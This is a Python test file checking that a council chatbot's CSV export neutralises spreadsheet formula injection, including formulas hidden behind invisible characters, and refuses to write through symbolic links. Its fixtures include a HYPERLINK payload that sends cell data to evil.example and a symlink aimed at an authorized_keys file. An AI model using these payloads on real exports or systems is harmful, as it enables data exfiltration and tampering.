"""Exports that cannot be abused: formulas hidden behind invisible characters, ``-o`` onto a
symbolic link, and an output that cannot be written.

A CSV cell is judged by its first visible character, so a formula behind a space, a no-break
space, a zero-width or bidi control character or a line break, or written with the full-width
signs, is quoted like one at the start. ``-o`` never writes through a symbolic link, even with
``--force``. An output that cannot be written exits 2 with one line, never 1 (1 says the chain
is broken) and never a traceback; the file it was to replace is kept.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from chatbot.cli.main import main
from chatbot.db.database import Database
from chatbot.record.export import write_csv
from chatbot.record.service import NewEntry, RecordService
from chatbot.record.view import EntryView

LONDON = ZoneInfo("Europe/London")
COUNCIL_TOML = """\
[council]
name = "Little Snoring Parish Council"
timezone = "Europe/London"
"""


def _view(text: str) -> EntryView:
    return EntryView(
        seq=1,
        kind="message",
        occurred_at=datetime(2026, 11, 2, 10, tzinfo=UTC),
        recorded_at=datetime(2026, 11, 2, 10, tzinfo=UTC),
        chat_id=-100,
        message_id=1,
        version=0,
        sender_id=1004,
        restricted=False,
        personal_data=False,
        reason="",
        hash="0" * 64,
        disposed=False,
        text=text,
        sender_name="Helen Moss",
        chat_title="Councillors",
    )


def _csv_text(text: str) -> str:
    out = io.StringIO(newline="")
    write_csv([_view(text)], out, zone=LONDON)
    return next(csv.DictReader(io.StringIO(out.getvalue(), newline="")))["text"]


FORMULA = 'HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    "text",
    [
        f"={FORMULA}",  # the six OWASP lists, still quoted
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        f" ={FORMULA}",  # a leading space
        f"\u00a0={FORMULA}",  # a no-break space
        f"\u200b={FORMULA}",  # a zero-width space
        f"\u2060\ufeff={FORMULA}",  # a word joiner and a BOM
        f"\u202e\u2066={FORMULA}",  # bidi controls
        f"\n={FORMULA}",  # a line break
        f" \u00a0\u200b\n={FORMULA}",  # several
        f"\uff1d{FORMULA}",  # full-width =
        "\uff0b1",  # full-width +
        "\uff0d1",  # full-width -
        "\uff20SUM(A1)",  # full-width @
        f"\u3000\uff1d{FORMULA}",  # an ideographic space, then full-width =
    ],
)
def test_when_a_cell_would_run_as_a_formula_behind_invisible_characters_then_it_is_quoted(
    text: str,
) -> None:
    assert _csv_text(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["Hedge on Mill Lane", " hedge", "\u00a0100 signatures", "a = b", "\u200b", ""]
)
def test_when_a_cell_starts_with_anything_else_then_it_is_written_as_it_is(text: str) -> None:
    assert _csv_text(text) == text


@pytest.fixture
def recorded(database: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Database:
    """Three entries in November 2026, a council file, and the CLI pointed at them."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "council.toml").write_text(COUNCIL_TOML, encoding="utf-8")
    monkeypatch.setenv("COUNCIL_CONFIG", str(tmp_path / "council.toml"))
    monkeypatch.setenv("DATABASE_URL", database.url)
    record = RecordService(database)
    entries = [
        NewEntry(
            kind="message",
            occurred_at=datetime(2026, 11, day, 12, tzinfo=UTC),
            text=f"Day {day}",
            chat_id=-100,
            chat_title="Councillors",
            message_id=day,
        )
        for day in (1, 2, 3)
    ]
    database.call(lambda session: record.append_all_in(session, entries))
    return database


def _export(path: Path, *extra: str) -> int:
    return main(
        ["record", "export", "--from", "01/11/2026", "--to", "30/11/2026", "-o", str(path), *extra]
    )


@pytest.mark.usefixtures("recorded")
def test_when_the_output_is_a_symbolic_link_then_even_force_does_not_write_through_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    victim = tmp_path / "authorized_keys"
    victim.write_text("ssh-ed25519 AAAA the admin\n", encoding="utf-8")
    link = tmp_path / "export.csv"
    link.symlink_to(victim)
    assert _export(link, "--force") == 2
    err = capsys.readouterr().err
    assert "symbolic link" in err
    assert "Traceback" not in err
    assert victim.read_text(encoding="utf-8") == "ssh-ed25519 AAAA the admin\n"
    assert link.is_symlink()


@pytest.mark.usefixtures("recorded")
@pytest.mark.parametrize("target", ["/proc/version", "/dev/null"])
def test_when_the_output_cannot_be_written_then_it_exits_2_with_one_line_not_1(
    target: str, capsys: pytest.CaptureFixture[str]
) -> None:
    before = Path("/proc/version").read_bytes()
    assert _export(Path(target), "--force") == 2
    err = capsys.readouterr().err
    assert err.startswith(f"councilbot: {target} ")
    assert err.count("\n") == 1
    assert Path("/proc/version").read_bytes() == before


@pytest.mark.usefixtures("recorded")
def test_when_a_forced_export_fails_then_the_earlier_export_is_kept(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    earlier = tmp_path / "export.csv"
    earlier.write_text("the export sent to the requester", encoding="utf-8")
    argv = ["record", "export", "--from", "01/11/2026", "--to", "01/01/9999", "-o", str(earlier)]
    assert main([*argv, "--force"]) == 2  # refused: outside the years the record can hold
    assert "9999" in capsys.readouterr().err
    assert earlier.read_text(encoding="utf-8") == "the export sent to the requester"
